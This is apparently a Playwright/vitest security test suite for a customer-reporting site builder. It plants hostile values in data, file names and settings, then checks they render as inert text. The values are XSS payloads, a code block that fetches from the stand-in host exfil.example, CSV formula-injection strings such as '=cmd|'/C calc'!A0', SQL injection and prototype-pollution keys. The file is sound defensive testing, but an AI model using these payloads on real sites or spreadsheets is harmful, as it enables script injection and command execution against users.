import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { csvParseRows } from "d3";
import { JSDOM } from "jsdom";
import type { Locator, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { build } from "../../pipeline/engine/build.js";
import { Database } from "../../pipeline/engine/database.js";
import { digest } from "../../pipeline/engine/digest.js";
import { silentLog } from "../../pipeline/engine/log.js";
import { packDocument } from "../../pipeline/engine/packDocument.js";
import { loadProject } from "../../pipeline/engine/project.js";
import { openRunSite } from "../../pipeline/engine/runSite.js";
import { pages } from "../../src/pages/index.js";
import { visit, type Visitor } from "./browser.js";

/* Texts that try to be more than text, in every place that a project has: data, names of files, settings. */

vi.setConfig({ testTimeout: 300_000, hookTimeout: 300_000 });

const root = resolve(import.meta.dirname, "../..");
const folder = mkdtempSync(join(tmpdir(), "clientele-hostile-"));
const project = join(folder, "company");
const buildFolder = join(folder, "build");
let visitor: Visitor;

/** Ends the block of HTML by carriage returns, and begins one that Framework would run. */
const FENCE = "x\r\r```js\rwindow.ATTACKED = 1; fetch(`https://exfil.example/`)\r```\r\rx";
/** A name from right to left that ends with a number: what follows it would join it. */
const RIGHT_TO_LEFT = "אבג 12";
const TEXTS = [
  FENCE, FENCE.replaceAll("\r", "\n"), "<script>window.ATTACKED = 1</script>", "<img src=x onerror=\"window.ATTACKED = 1\">", "\"><svg onload='window.ATTACKED = 1'>",
  "${window.ATTACKED = 1}", "</code></pre><script>window.ATTACKED = 1</script>", "---\ntitle: x\n---", "# Head\n\n[x](javascript:window.ATTACKED=1)", "'; drop table x; --", "=cmd|'/C calc'!A0",
  "constructor", "__proto__", RIGHT_TO_LEFT, "+1+cmd|'/C calc'!A0", "-1+cmd|'/C calc'!A0", "@SUM(1+1)", "\t=1+1", "a;=1+1",
];

beforeAll(async () => {
  mkdirSync(project, { recursive: true });
  const text = (value: string) => `'${value.replaceAll("'", "''")}'`;
  const db = await Database.open();
  // Parquet, for it keeps a carriage return that a CSV file loses.
  await db.run(`create table customers as select 'C' || n as id, list_value(${TEXTS.map(text).join(", ")})[1 + n % ${TEXTS.length}] as name,
    list_value(${TEXTS.map(text).join(", ")})[1 + (n // 3) % ${TEXTS.length}] as region, 'business' as kind from range(66) as numbers(n)`);
  await db.run(`copy customers to ${text(join(project, "customers.parquet"))} (format parquet)`);
  await db.run(`copy (select 'O' || n as id, 'C' || n % 66 as customer, date '2024-01-01' + (n % 700)::integer as day, 10 + n % 97 as amount from range(900) as numbers(n))
    to ${text(join(project, `orders${FENCE.replaceAll("/", "")}.csv`))} (format csv, header)`);
  db.close();
  writeFileSync(join(project, "project.yaml"), `
name: ${JSON.stringify(`A & B ${TEXTS[2]!}`)}
reporting_currency: EUR
privacy: { customers: name }
entities:
  customers:
    - files: customers.parquet
      columns: { customer_id: id, name: name, region: region, channel: region, owner: name, kind: kind }
  orders:
    - files: orders*.csv
      columns: { order_id: id, customer_id: customer, order_date: day, amount: amount }
settings:
  value:
    tiers:
      - { tier: ${JSON.stringify(FENCE)}, top_share: 0.1, action: ${JSON.stringify(TEXTS[3])} }
      - { tier: b, top_share: 1, action: ${JSON.stringify(FENCE)} }
`);
  const dist = join(folder, "dist");
  await build(loadProject(project), { root, buildFolder, dist, log: silentLog, now: () => 0 });
  visitor = await visit(dist);
});
afterAll(async () => {
  await visitor.close();
  rmSync(folder, { recursive: true, force: true });
});

/** Whatever a text could have become of what it tries to be, anywhere on a page. */
async function expectUnharmed(page: Page): Promise<void> {
  expect(await page.evaluate(() => (globalThis as { ATTACKED?: number }).ATTACKED)).toBeUndefined();
  expect(await page.locator(HARM).count()).toBe(0);
  expect(await page.locator("script").count()).toBe(1);
}

/** What none of the site's pages has of its own. */
const HARM = "body script, body style:not([nonce]), body img, body iframe, [onerror], [onload], [href^='javascript:' i]";

/** A text as a page shows it: runs of white space are one blank. */
const asShown = (text: string) => text.replace(/\s+/g, " ").trim();

/** A value of the data as a page names it, whatever its first letter. */
const asNamed = (text: string) => asShown(text.replaceAll("_", " ")).toLowerCase();

test.each([...pages.map(({ path }) => path), "zh/composition", "zh/value"])("on %s every text of the data stays text", async (path) => {
  const { page, faults } = await visitor.open(path);
  expect(faults).toEqual([]);
  expect(await page.title()).toContain("A & B <script>");
  await expectUnharmed(page);
  await page.context().close();
});

test("on the page of a customer its name and all that is said of it stay text", async () => {
  const { page, faults } = await visitor.open("customers");
  const links = await page.locator(".customer-rows a.customer-link").evaluateAll((found) => found.map((link) => ({ href: (link as HTMLAnchorElement).href, name: link.textContent })));
  const byName = new Map(links.map(({ href, name }) => [asShown(name), href]));
  expect([...byName.keys()].sort()).toEqual([...new Set(TEXTS.map(asShown))].sort());
  for (const [name, href] of byName) {
    await page.goto(href, { waitUntil: "networkidle" });
    await page.locator("section.kpi").first().waitFor();
    expect(asShown((await page.locator("h1").textContent())!)).toBe(name);
    expect(asShown(await page.title())).toContain(name);
    await expectUnharmed(page);
  }
  expect(faults).toEqual([]);
  await page.context().close();
});

test.each(["index", "composition", "value", "rfm", "customers", "zh/composition"])("%s narrowed to a hostile name says the name as it stands", async (path) => {
  const { page, faults } = await visitor.open(path);
  for (const name of TEXTS.slice(2, 7)) {
    await page.goto(`${page.url().replace(/[?#].*/, "")}?${new URLSearchParams({ region: name }).toString()}`);
    await page.locator(".filter-state", { hasText: /Filtered:|已筛选：/ }).waitFor();
    await expect.poll(() => page.locator(".is-pending, .is-unseen").count()).toBe(0);
    expect(asShown((await page.locator("details.filter[data-name=region] summary").textContent())!)).toContain(asShown(name));
    expect(await page.locator(".load-fault").count()).toBe(0);
    await expectUnharmed(page);
  }
  await page.locator("details.filter[data-name=region] summary").click();
  await page.locator("details.filter[data-name=region] input").first().waitFor();
  const choices = (await page.locator("details.filter[data-name=region] label").allTextContents()).map(asNamed);
  for (const text of TEXTS) expect(choices.some((choice) => choice.includes(asNamed(text))), text).toBe(true);
  await expectUnharmed(page);
  expect(faults).toEqual([]);
  await page.context().close();
});

test("the search finds hostile names, and shows them as they stand", async () => {
  const { page, faults } = await visitor.open("index");
  await page.keyboard.press("Control+k");
  for (const name of [TEXTS[2]!, TEXTS[3]!, TEXTS[4]!, "=cmd|'/C calc'!A0", RIGHT_TO_LEFT]) {
    await page.locator("dialog.search input").fill(name);
    await page.locator("dialog.search [role=status]", { hasText: /found/ }).waitFor();
    expect(await page.locator("dialog.search [role=option]:has(.find-kind:text-is('Customer')) .find-title").allTextContents()).toContain(name);
    await expectUnharmed(page);
  }
  expect(faults).toEqual([]);
  await page.context().close();
});

test("the panel of definitions shows a hostile title and what a text of the project says as they stand", async () => {
  const { page, faults } = await visitor.open("composition");
  const cards = page.locator("section.card:has(a.how)");
  const titles = await cards.locator(":is(h2, h3)").allTextContents();
  const hostile = titles.findIndex((title) => TEXTS.some((text) => asShown(title).includes(asShown(text))));
  expect(hostile).toBeGreaterThanOrEqual(0);
  await cards.nth(hostile).locator("a.how").click();
  await page.locator("dialog.panel details").first().waitFor();
  expect(await page.locator("dialog.panel header h2").textContent()).toBe(titles[hostile]);
  await expectUnharmed(page);
  expect(faults).toEqual([]);
  await page.context().close();
});

/** What a click gives to take away. */
async function taken(page: Page, button: Locator): Promise<string> {
  const [download] = await Promise.all([page.waitForEvent("download"), button.click()]);
  return readFileSync(await download.path(), "utf8");
}

/** Cells that a spreadsheet would run. */
const formulas = (text: string) => csvParseRows(text.replace("\ufeff", "")).flat().filter((cell) => /^[=+\-@\t\r\n]/.test(cell) && !/^-\d+(\.\d+)?(e-?\d+)?$/.test(cell));

test("of what is taken away no cell is a formula, and a chart holds nothing that runs", async () => {
  const { page, faults } = await visitor.open("customers");
  const list = await taken(page, page.locator(".export-customers"));
  const names = csvParseRows(list.replace("\ufeff", "")).slice(1).map((cells) => cells[1]);
  for (const text of ["=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-1+cmd|'/C calc'!A0", "@SUM(1+1)"]) expect(names).toContain(`'${text}`);
  expect(names).toContain("a;'=1+1");
  expect(formulas(list)).toEqual([]);
  await page.goto(page.url().replace("customers.html", "composition.html"));
  for (const table of ["composition_groups", "composition_top_customers"]) {
    const menu = page.locator(`section.card:has(.provenance[data-tables~=${table}]) .provenance details.menu`).first();
    const files = menu.getByRole("button", { name: /CSV/ });
    await menu.locator("summary").click();
    await files.first().waitFor();
    const texts: string[] = [];
    for (let file = 0, all = await files.count(); file < all; file++) {
      if (file > 0) await menu.locator("summary").click();
      texts.push(await taken(page, files.nth(file)));
    }
    expect(texts.join("")).toContain("'=cmd|'/C calc'!A0");
    expect(texts.flatMap(formulas)).toEqual([]);
  }
  const drawing = page.locator("#month-by-month .provenance details.menu");
  await drawing.locator("summary").click();
  const chart = new JSDOM(await taken(page, drawing.getByRole("button", { name: /SVG/ })), { contentType: "image/svg+xml" }).window.document;
  expect(chart.querySelector(`script, foreignObject, image, a, [onload], [onerror]`)).toBeNull();
  expect(TEXTS.some((text) => chart.documentElement.textContent.includes(text))).toBe(true);
  expect(faults).toEqual([]);
  await page.context().close();
});

test("in the digest and on the sheets of the pack every text of the data stays text", async () => {
  const out = join(folder, "digest.html");
  await digest({ root, project, buildFolder, language: "en", out, log: silentLog });
  const mail = new JSDOM(readFileSync(out, "utf8")).window.document;
  // Its charts are pictures in the mail itself, and its style stands in its head.
  expect(mail.querySelector("script, body style, svg, iframe, [onerror], [onload], [href^='javascript:' i], img:not([src^='data:image/png;base64,'])")).toBeNull();
  const site = openRunSite(project, buildFolder, "en");
  const sheets = packDocument(site, site.pages.filter((page) => !["customers", "what-if"].includes(page)), "/pack.css");
  try {
    const paper = new JSDOM(sheets.html()).window.document;
    expect(paper.querySelector(HARM)).toBeNull();
    for (const [name, { body }] of Object.entries({ mail, paper })) {
      const shown = asShown(body.textContent);
      expect(shown, name).toContain(asShown(`A & B ${TEXTS[2]!}`));
      if (name === "paper") for (const text of TEXTS.slice(2, 7)) expect(shown).toContain(asShown(text));
    }
  } finally {
    sheets.close();
  }
});

test("the texts are shown as they stand", async () => {
  const { page } = await visitor.open("composition");
  const shown = await page.locator("main").innerText();
  for (const text of TEXTS.slice(2, 7)) expect(shown).toContain(text);
  await page.context().close();
});

test.each(["composition", "rfm", "customers", "zh/composition"])("on %s a name from right to left turns nothing beside it", async (path) => {
  const { page } = await visitor.open(path);
  const { places, turned } = await page.evaluate((name) => {
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT, (text) => (text.textContent!.includes(name) ? NodeFilter.FILTER_ACCEPT : NodeFilter.FILTER_SKIP));
    const places: HTMLElement[] = [];
    while (texts.nextNode()) places.push(texts.currentNode.parentElement!);
    const shown = places.filter((place) => place.checkVisibility() && getComputedStyle(place).display === "inline");
    const turned = shown.filter((place) => {
      const number = document.createTextNode(" 34");
      place.parentElement!.style.whiteSpace = "nowrap";
      place.after(number);
      const range = document.createRange();
      range.selectNode(number);
      const isLeft = range.getBoundingClientRect().left < place.getBoundingClientRect().right - 1;
      number.remove();
      return isLeft;
    });
    return { places: shown.length, turned: turned.map((place) => place.outerHTML) };
  }, RIGHT_TO_LEFT);
  expect(places).toBeGreaterThan(0);
  expect(turned).toEqual([]);
  await page.context().close();
});
